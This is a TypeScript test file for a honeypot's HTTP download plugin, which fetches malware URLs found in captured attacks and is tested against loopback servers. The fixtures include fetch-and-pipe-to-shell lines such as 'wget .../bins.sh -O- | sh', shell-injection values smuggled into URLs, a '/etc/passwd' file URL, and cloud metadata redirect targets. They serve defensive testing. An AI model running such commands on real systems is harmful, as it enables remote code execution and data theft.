import { execFile } from 'node:child_process'
import { once } from 'node:events'
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises'
import { createServer as createHttpServer, type IncomingHttpHeaders, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import { createServer as createHttpsServer } from 'node:https'
import { createServer as createNetServer, type Socket } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
import { createHttpDownloadPlugin, HttpDownloadOptions } from '../../src/plugins/download/http-download.js'
import { fetchHttp } from '../../src/plugins/download/http-fetch.js'
import type { ArtifactHistory } from '../../src/plugins/plugin.js'
import { attackOf, createTestContext, runPlugin, sha256Hex, subjectOf, type TestContextOptions } from '../helpers/plugin-harness.js'

// httpDownload against real node:http and node:https servers on loopback (the harness's policy allows 127.0.0.0/8;
// tests of refusal narrow `policy.allow`). The certificate is made at test time with Debian's openssl.

const run = promisify(execFile)
let tls: { key: Buffer; cert: Buffer }
let certDir: string

beforeAll(async () => {
  certDir = await mkdtemp(join(tmpdir(), 'ht-http-download-'))
  const key = join(certDir, 'key.pem')
  const cert = join(certDir, 'cert.pem')
  await run('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout', key, '-out', cert, '-days', '1', '-subj', '/CN=honeytrap-test', '-addext', 'subjectAltName=IP:127.0.0.1'])
  tls = { key: await readFile(key), cert: await readFile(cert) }
})
afterAll(() => rm(certDir, { recursive: true, force: true }))

interface Seen {
  readonly path: string
  readonly headers: IncomingHttpHeaders
}
type Handler = (req: IncomingMessage, res: ServerResponse) => void

/** An HTTP(S) server on 127.0.0.1:0 that records every request it gets; closed after the test. */
async function serve(handler: Handler, secure = false): Promise<{ base: string; port: number; seen: Seen[] }> {
  const seen: Seen[] = []
  const onRequest: Handler = (req, res) => {
    seen.push({ path: req.url ?? '', headers: req.headers })
    handler(req, res)
  }
  const server: Server = secure ? createHttpsServer(tls, onRequest) : createHttpServer(onRequest)
  server.listen({ host: '127.0.0.1', port: 0 })
  await once(server, 'listening')
  onTestFinished(() => {
    server.closeAllConnections()
    return new Promise<void>((resolve) => server.close(() => resolve()))
  })
  const port = (server.address() as { port: number }).port
  return { base: `${secure ? 'https' : 'http'}://127.0.0.1:${port}`, port, seen }
}

const body = (text: string): Handler => (_req, res) => res.end(text)
const plugin = createHttpDownloadPlugin(HttpDownloadOptions.parse({}))

function runOn(payload: string, options: TestContextOptions = {}): ReturnType<typeof runPlugin> {
  return runPlugin(plugin, subjectOf(attackOf(payload)), options)
}

describe('httpDownload: fetching', () => {
  it('downloads a file, records its sha256, sends a fixed User-Agent and nothing identifying', async () => {
    const saved = process.env['http_proxy']
    process.env['http_proxy'] = 'http://127.0.0.1:9' // must not be used
    onTestFinished(() => {
      if (saved === undefined) delete process.env['http_proxy']
      else process.env['http_proxy'] = saved
    })
    const { base, port, seen } = await serve(body('#!/bin/sh\necho pwned\n'))
    const got = await runOn(`cd /tmp; wget ${base}/bins.sh -O- | sh`)
    expect(got.downloads).toHaveLength(1)
    const [d] = got.downloads
    expect(d?.attempt).toMatchObject({ url: `${base}/bins.sh`, outcome: 'ok', address: '127.0.0.1', bytes: 21, reason: null })
    expect(sha256Hex(d?.sample ?? Buffer.alloc(0))).toBe(sha256Hex(Buffer.from('#!/bin/sh\necho pwned\n')))
    expect(seen).toHaveLength(1)
    expect(seen[0]?.headers).toMatchObject({ host: `127.0.0.1:${port}`, 'user-agent': 'Wget/1.21.3' })
    expect(seen[0]?.headers.cookie).toBeUndefined()
    expect(seen[0]?.headers.authorization).toBeUndefined()
    expect(got.artifacts[0]).toMatchObject({ kind: 'url', matchKey: `127.0.0.1:${port}`, info: { tlsVerified: null, httpStatus: 200 } })
  })

  it('accepts a self-signed HTTPS certificate and records that it did not verify', async () => {
    const { base } = await serve(body('ELF'), true)
    const got = await runOn(`curl -k ${base}/x86`)
    expect(got.downloads[0]?.attempt.outcome).toBe('ok')
    expect(got.downloads[0]?.sample?.toString()).toBe('ELF')
    expect(got.artifacts[0]?.info).toMatchObject({ tlsVerified: false })
  })

  it('records a 404 as server-error without a sample', async () => {
    const { base } = await serve((_req, res) => res.writeHead(404).end('no'))
    const got = await runOn(`wget ${base}/gone`)
    expect(got.downloads[0]?.attempt).toMatchObject({ outcome: 'server-error', reason: 'HTTP 404' })
    expect(got.downloads[0]?.sample).toBeUndefined()
  })

  it('fetches two URLs of one payload (the original crashed) and caps 300 at maxUrls', async () => {
    const { base, seen } = await serve((req, res) => res.end(req.url))
    const two = await runOn(`wget ${base}/one; wget ${base}/two`)
    expect(two.downloads.map((d) => [d.attempt.outcome, d.sample?.toString()]).sort()).toEqual([['ok', '/one'], ['ok', '/two']])
    seen.length = 0
    const many = await runOn(Array.from({ length: 300 }, (_, i) => `wget ${base}/f${i}`).join(';'))
    expect(many.downloads).toHaveLength(16)
    expect(seen).toHaveLength(16)
    expect(many.downloads.every((d) => d.attempt.outcome === 'ok')).toBe(true)
  })

  it('fetches a URL once per attack however often it appears (claim)', async () => {
    const { base, seen } = await serve(body('x'))
    const { ctx, collected } = createTestContext()
    const attack = attackOf(`wget ${base}/a; wget ${base}/a`)
    await plugin.process(subjectOf(attack), ctx)
    await plugin.process(subjectOf(attack, Buffer.from(`curl ${base}/a`), 'decoded'), ctx)
    expect(collected.downloads).toHaveLength(1)
    expect(seen).toHaveLength(1)
  })

  it('reports a URL fetched recently as cached without fetching it', async () => {
    const { base, seen } = await serve(body('x'))
    const asked: [string, number][] = []
    const history: ArtifactHistory = {
      find: () => [],
      recentDownload: (url, maxAgeMs) => {
        asked.push([url, maxAgeMs])
        return url === `${base}/old` ? 'ab'.repeat(32) : null
      },
    }
    const got = await runOn(`wget ${base}/old`, { history })
    expect(got.downloads[0]?.attempt).toMatchObject({ outcome: 'cached', address: null, bytes: 0 })
    expect(got.downloads[0]?.attempt.reason).toContain('ab'.repeat(32))
    expect(asked).toEqual([[`${base}/old`, 3_600_000]])
    expect(seen).toHaveLength(0)
  })

  it('strips credentials from a URL and never sends them', async () => {
    const { base, seen } = await serve(body('x'))
    const got = await runOn(`wget ${base.replace('//', '//root:hunter2@')}/c`)
    expect(got.downloads[0]?.attempt).toMatchObject({ url: `${base}/c`, outcome: 'ok' })
    expect(seen[0]?.headers.authorization).toBeUndefined()
    expect(got.artifacts[0]?.info).toMatchObject({ credentialsRemoved: true })
  })

  it('ignores schemes other than http and https', async () => {
    const { port, seen } = await serve(body('x'))
    const got = await runOn(`ftp://127.0.0.1:${port}/x file:///etc/passwd gopher://127.0.0.1:${port}/ ws://127.0.0.1:${port}/`)
    expect(got.downloads).toHaveLength(0)
    expect(seen).toHaveLength(0)
  })
})

describe('httpDownload: subjects', () => {
  it('reads the attack string and decoded payloads, and downloaded files only with followSamples', () => {
    const attack = attackOf('x')
    const follow = createHttpDownloadPlugin(HttpDownloadOptions.parse({ followSamples: true }))
    expect(plugin.accepts?.(subjectOf(attack))).toBe(true)
    expect(plugin.accepts?.(subjectOf(attack, Buffer.from('y'), 'decoded'))).toBe(true)
    expect(plugin.accepts?.(subjectOf(attack, Buffer.from('y'), 'sample'))).toBe(false)
    expect(follow.accepts?.(subjectOf(attack, Buffer.from('y'), 'sample'))).toBe(true)
  })
})

describe('httpDownload: no shell, ever', () => {
  it('sends shell metacharacters as path bytes and runs nothing', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'ht-pwned-'))
    onTestFinished(() => rm(dir, { recursive: true, force: true }))
    const { base, seen } = await serve(body('x'))
    const payload = [
      `wget ${base}/a;touch\${IFS}${dir}/p1`,
      `curl ${base}/b$(touch\${IFS}${dir}/p2)`,
      `wget ${base}/c\`touch ${dir}/p3\``,
      `wget ${base}/d|touch\${IFS}${dir}/p4`,
      `wget ${base}/e&&touch\${IFS}${dir}/p5`,
    ].join('\n')
    const got = await runOn(payload)
    expect(got.downloads.map((d) => d.attempt.outcome)).toEqual(['ok', 'ok', 'ok', 'ok', 'ok'])
    expect(seen.map((s) => s.path).sort()).toEqual(['/a', `/b$(touch$%7BIFS%7D${dir}/p2)`, '/c', '/d', '/e'].sort())

    // Straight to the fetcher, operators and all: each reaches the server as the WHATWG-encoded path.
    seen.length = 0
    const raw = [`/q;touch\${IFS}${dir}/q1`, `/r\`touch ${dir}/q2\``, `/s|touch ${dir}/q3`, `/t&&touch ${dir}/q4`, `/u$(id)>${dir}/q5`]
    const { ctx } = createTestContext()
    for (const path of raw) {
      const result = await fetchHttp(`${base}${path}`, ctx.downloads, { userAgent: 'Wget/1.21.3', maxHeaderBytes: 16_384, signal: ctx.signal })
      expect(result.attempt.outcome).toBe('ok')
    }
    expect(seen.map((s) => s.path)).toEqual(raw.map((p) => { const u = new URL(`${base}${p}`); return u.pathname + u.search }))
    expect(seen.every((s) => !/[\s`]/.test(s.path))).toBe(true)
    expect(await readdir(dir)).toEqual([])
  })
})

describe('httpDownload: limits', () => {
  it('refuses a file whose Content-Length is over maxBytes before reading it', async () => {
    const { base } = await serve((_req, res) => {
      res.writeHead(200, { 'content-length': String(10 * 1024 * 1024) })
      res.write('x'.repeat(100))
    })
    const got = await runOn(`wget ${base}/big`, { policy: { maxBytes: 1024 * 1024 } })
    expect(got.downloads[0]?.attempt.outcome).toBe('too-large')
    expect(got.downloads[0]?.attempt.bytes).toBe(0)
    expect(got.downloads[0]?.sample).toBeUndefined()
  })

  it('abandons an endless chunked stream at maxBytes, keeping nothing', async () => {
    const chunk = Buffer.alloc(64 * 1024, 0x41)
    const { base } = await serve((_req, res) => {
      const pump = (): void => {
        while (!res.destroyed && res.write(chunk));
        if (!res.destroyed) res.once('drain', pump)
      }
      pump()
    })
    const maxBytes = 1024 * 1024
    const started = performance.now()
    const got = await runOn(`wget ${base}/endless`, { policy: { maxBytes } })
    const attempt = got.downloads[0]?.attempt
    expect(attempt?.outcome).toBe('too-large')
    expect(attempt?.bytes).toBeGreaterThan(maxBytes)
    expect(attempt?.bytes).toBeLessThanOrEqual(maxBytes + 128 * 1024) // at most one socket read past the cap
    expect(got.downloads[0]?.sample).toBeUndefined()
    expect(performance.now() - started).toBeLessThan(3_000)
  })

  it('times out a server that sends headers and then stalls, within timeoutMs', async () => {
    const { base } = await serve((_req, res) => {
      res.writeHead(200, { 'content-length': '1000' })
      res.write('partial')
    })
    const started = performance.now()
    const got = await runOn(`wget ${base}/stall`, { policy: { timeoutMs: 500 } })
    expect(got.downloads[0]?.attempt.outcome).toBe('timeout')
    expect(got.downloads[0]?.attempt.bytes).toBe(7)
    expect(performance.now() - started).toBeLessThan(1_500)
  })

  it('ends on a huge response header with protocol-error, not a crash', async () => {
    const sockets: Socket[] = []
    const server = createNetServer((socket) => {
      sockets.push(socket)
      socket.on('error', () => undefined)
      socket.write(`HTTP/1.1 200 OK\r\nX-Big: ${'a'.repeat(200_000)}\r\n\r\nbody`)
    })
    server.listen({ host: '127.0.0.1', port: 0 })
    await once(server, 'listening')
    onTestFinished(() => {
      for (const s of sockets) s.destroy()
      return new Promise<void>((resolve) => server.close(() => resolve()))
    })
    const port = (server.address() as { port: number }).port
    const got = await runOn(`wget http://127.0.0.1:${port}/h`)
    expect(got.downloads[0]?.attempt).toMatchObject({ outcome: 'protocol-error', reason: expect.stringContaining('HPE_HEADER_OVERFLOW') })
  })
})

describe('httpDownload: redirects and address rules', () => {
  it('follows a redirect and stops a loop or a chain longer than maxRedirects', async () => {
    const { base, seen } = await serve((req, res) => {
      const url = req.url ?? ''
      if (url === '/start') return res.writeHead(302, { location: '/file' }).end()
      if (url === '/file') return res.end('final')
      if (url === '/ping') return res.writeHead(301, { location: `${base}/pong` }).end()
      if (url === '/pong') return res.writeHead(307, { location: '/ping' }).end()
      const n = Number(url.slice('/chain/'.length))
      res.writeHead(308, { location: `/chain/${n + 1}` }).end()
    })
    const ok = await runOn(`wget ${base}/start`)
    expect(ok.downloads[0]?.sample?.toString()).toBe('final')
    expect(ok.artifacts[0]?.info).toMatchObject({ redirects: [`${base}/file`] })

    seen.length = 0
    const loop = await runOn(`wget ${base}/ping`)
    expect(loop.downloads[0]?.attempt).toMatchObject({ outcome: 'redirect-limit', reason: expect.stringContaining('loop') })
    expect(seen.map((s) => s.path)).toEqual(['/ping', '/pong'])

    seen.length = 0
    const chain = await runOn(`wget ${base}/chain/0`, { policy: { maxRedirects: 3 } })
    expect(chain.downloads[0]?.attempt.outcome).toBe('redirect-limit')
    expect(seen).toHaveLength(4)
  })

  it('refuses a redirect into private, metadata, link-local or loopback space without contacting it', async () => {
    const targets = ['http://10.0.0.1/', 'http://169.254.169.254/latest/meta-data', 'http://[::1]:8080/x', 'http://[fe80::1]/', 'ftp://127.0.0.1/x']
    const { base, seen } = await serve((req, res) => res.writeHead(302, { location: targets[Number(req.url?.slice(1))] }).end())
    // Only the server's own address is allowed: every other non-public range is refused as in production.
    const got = await runOn(targets.map((_, i) => `wget ${base}/${i}`).join('\n'), { policy: { allow: ['127.0.0.1/32'] } })
    const byUrl = new Map(got.downloads.map((d) => [d.attempt.url, d.attempt]))
    for (let i = 0; i < 4; i++) {
      expect(byUrl.get(`${base}/${i}`)).toMatchObject({ outcome: 'refused' })
    }
    expect(byUrl.get(`${base}/4`)).toMatchObject({ outcome: 'unsupported' })
    expect(byUrl.get(`${base}/1`)?.reason).toContain('169.254.169.254')
    expect(seen).toHaveLength(targets.length) // one request per URL: no second hop anywhere
  })

  it('refuses a host name that resolves to a non-public address and an address literal', async () => {
    const { port, seen } = await serve(body('x'))
    const got = await runOn(`wget http://localhost:${port}/a; wget http://127.0.0.1:${port}/b`, { policy: { allow: [] } })
    expect(got.downloads.map((d) => [d.attempt.outcome, d.attempt.address])).toEqual([['refused', null], ['refused', null]])
    const named = got.downloads.find((d) => d.attempt.url.includes('localhost'))
    expect(named?.attempt.reason).toMatch(/localhost: address (127\.0\.0\.1|::1) is not public/)
    expect(seen).toHaveLength(0)
  })
})
